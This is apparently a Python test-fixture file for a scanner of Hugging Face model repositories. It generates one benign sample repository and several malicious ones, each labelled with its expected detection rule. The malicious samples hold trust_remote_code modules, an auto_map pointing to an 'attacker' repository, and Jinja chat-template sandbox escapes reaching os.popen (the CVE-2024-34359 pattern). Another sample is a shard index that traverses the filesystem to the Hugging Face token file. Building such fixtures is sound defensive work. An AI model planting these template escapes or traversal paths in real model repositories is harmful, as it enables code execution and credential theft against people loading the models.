"""Hugging Face repository samples: a sharded checkpoint with its config and tokenizer files,
and repositories whose JSON files make ``transformers`` run custom code or read shards from
outside the repository.

The custom-code modules carry a canary payload: ``transformers`` would import and run them on
``from_pretrained(..., trust_remote_code=True)``.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from corpus import Sample

from samples.safetensors_gguf import st_file

_CUSTOM_MODELS = "https://huggingface.co/docs/transformers/custom_models"
_ST_MODULES = "https://sbert.net/docs/sentence_transformer/usage/custom_models.html"
_DIFFUSERS = "https://huggingface.co/docs/diffusers/using-diffusers/custom_pipeline_overview"


def _repo(out_dir: Path, files: dict[str, Any]) -> Path:
    """A repository directory: dict values are written as JSON, bytes and str as they are."""
    out_dir.mkdir(parents=True, exist_ok=True)
    for name, content in files.items():
        path = out_dir / name
        if isinstance(content, bytes):
            path.write_bytes(content)
        elif isinstance(content, str):
            path.write_text(content)
        else:
            path.write_text(json.dumps(content, indent=2))
    return out_dir


def _shards() -> dict[str, Any]:
    first = st_file([("model.embed_tokens.weight", "F32", [16, 8])], metadata={"format": "pt"})
    second = st_file([("lm_head.weight", "F32", [16, 8])], metadata={"format": "pt"})
    index = {"metadata": {"total_size": 1024}, "weight_map": {
        "model.embed_tokens.weight": "model-00001-of-00002.safetensors",
        "lm_head.weight": "model-00002-of-00002.safetensors"}}
    return {"model-00001-of-00002.safetensors": first,
            "model-00002-of-00002.safetensors": second,
            "model.safetensors.index.json": index}


def _config(**extra: Any) -> dict[str, Any]:
    return {"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 8,
            "intermediate_size": 16, "num_attention_heads": 2, "num_key_value_heads": 2,
            "num_hidden_layers": 1, "vocab_size": 16, "torch_dtype": "float32", **extra}


def _payload(canary: Path) -> str:
    return f"import pathlib\npathlib.Path({str(canary)!r}).touch()\n\nclass XModel:\n    pass\n"


def _benign(out_dir: Path, canary: Path) -> Path:
    return _repo(out_dir, {
        **_shards(),
        "config.json": _config(),
        "generation_config.json": {"bos_token_id": 1, "eos_token_id": 2},
        "tokenizer.json": {"version": "1.0", "model": {"type": "BPE", "vocab": {
            "\u0120the": 0, "caf\u00e9": 1, "<s>": 2}, "merges": []}},
        "tokenizer_config.json": {"bos_token": "<s>", "chat_template":
                                  "{% for m in messages %}{{ m['content'] }}{% endfor %}"},
        "special_tokens_map.json": {"bos_token": "<s>"},
    })


def _remote_code(out_dir: Path, canary: Path) -> Path:
    return _repo(out_dir, {
        **_shards(),
        "config.json": _config(auto_map={"AutoModelForCausalLM": "modeling_x.XModel"}),
        "modeling_x.py": _payload(canary),
    })


def _remote_code_other_repo(out_dir: Path, canary: Path) -> Path:
    return _repo(out_dir, {
        **_shards(),
        "tokenizer_config.json": {"auto_map": {
            "AutoTokenizer": ["attacker/tokenizers--tokenization_x.XTokenizer", None]}},
        "config.json": _config(),
    })


def _shard_traversal(out_dir: Path, canary: Path) -> Path:
    files = _shards()
    files["model.safetensors.index.json"]["weight_map"]["lm_head.weight"] = (
        "../../../../root/.cache/huggingface/token")
    return _repo(out_dir, {**files, "config.json": _config()})


def _st_modules(custom_type: str, custom_path: str) -> list[dict[str, Any]]:
    # The custom module first: sentence-transformers loads modules in order.
    return [{"idx": 0, "name": "0", "path": custom_path, "type": custom_type},
            {"idx": 1, "name": "1", "path": "",
             "type": "sentence_transformers.models.Transformer"},
            {"idx": 2, "name": "2", "path": "2_Pooling",
             "type": "sentence_transformers.models.Pooling"}]


def _st_custom_module(out_dir: Path, canary: Path) -> Path:
    return _repo(out_dir, {
        **_shards(), "config.json": _config(),
        "modules.json": _st_modules("custom_st.MyPooling", "0_Custom"),
        "custom_st.py": _payload(canary).replace("XModel", "MyPooling"),
    })


def _diffusers_component(out_dir: Path, canary: Path) -> Path:
    out_dir.mkdir(parents=True, exist_ok=True)
    (out_dir / "unet").mkdir(exist_ok=True)
    (out_dir / "unet" / "my_unet.py").write_text(_payload(canary).replace("XModel", "MyUNet"))
    return _repo(out_dir, {
        "model_index.json": {"_class_name": "StableDiffusionPipeline",
                             "_diffusers_version": "0.36.0",
                             "unet": ["my_unet", "MyUNet"]},
    })


def _template_injection(out_dir: Path, canary: Path) -> Path:
    template = ("{% for message in messages %}{{ message['content'] }}{% endfor %}"
                "{{ cycler.__init__.__globals__.os.popen('touch " + str(canary) + "').read() }}")
    return _repo(out_dir, {**_shards(), "config.json": _config(),
                           "tokenizer_config.json": {"bos_token": "<s>",
                                                     "chat_template": template}})


def _template_file(out_dir: Path, canary: Path) -> Path:
    template = ("{% for message in messages %}{{ message['content'] }}{% endfor %}"
                "{{ lipsum.__globals__['os'].popen('touch " + str(canary) + "').read() }}")
    return _repo(out_dir, {**_shards(), "config.json": _config(),
                           "tokenizer_config.json": {"bos_token": "<s>"},
                           "chat_template.jinja": template})


SAMPLES = [
    Sample("hf-benign-sharded-repo", "dir", False, _benign,
           "a sharded safetensors checkpoint with its index, config, generation config and "
           "tokenizer files, as transformers' save_pretrained writes them"),
    Sample("hf-remote-code", "dir", True, _remote_code,
           "config.json auto_map names modeling_x.py, which from_pretrained(..., "
           "trust_remote_code=True) imports and runs", source=_CUSTOM_MODELS,
           rule="hf-remote-code"),
    Sample("hf-remote-code-other-repo", "dir", True, _remote_code_other_repo,
           "tokenizer_config.json auto_map takes the tokenizer's code from another "
           "repository ('attacker/tokenizers--...'), never in the scanned files",
           source=_CUSTOM_MODELS, min_severity="high", rule="hf-remote-code-other-repo"),
    Sample("hf-st-custom-module", "dir", True, _st_custom_module,
           "sentence-transformers modules.json names custom_st.MyPooling, which "
           "SentenceTransformer(..., trust_remote_code=True) imports (checked with 6.2)",
           source=_ST_MODULES, rule="hf-remote-code"),
    Sample("hf-diffusers-custom-component", "dir", True, _diffusers_component,
           "model_index.json declares the unet as [\"my_unet\", \"MyUNet\"]: "
           "DiffusionPipeline.from_pretrained(..., trust_remote_code=True) runs unet/my_unet.py "
           "(checked with diffusers 0.42)", source=_DIFFUSERS, rule="hf-remote-code"),
    Sample("hf-chat-template-injection", "dir", True, _template_injection,
           "tokenizer_config.json chat template walks cycler.__init__.__globals__ to os.popen, "
           "the CVE-2024-34359 payload in the file transformers, vLLM and TGI read templates "
           "from", source="CVE-2024-34359", min_severity="critical",
           rule="chat-template-dunder"),
    Sample("hf-chat-template-file-injection", "dir", True, _template_file,
           "chat_template.jinja, where transformers 4.52+ saves the chat template, reaches "
           "os.popen through lipsum.__globals__", source="CVE-2024-34359",
           min_severity="critical", rule="chat-template-dunder"),
    Sample("hf-shard-path-traversal", "dir", True, _shard_traversal,
           "model.safetensors.index.json maps a tensor to a shard outside the repository "
           "(../../../../root/.cache/huggingface/token), which the loader opens",
           min_severity="high", rule="hf-shard-path-traversal"),
]
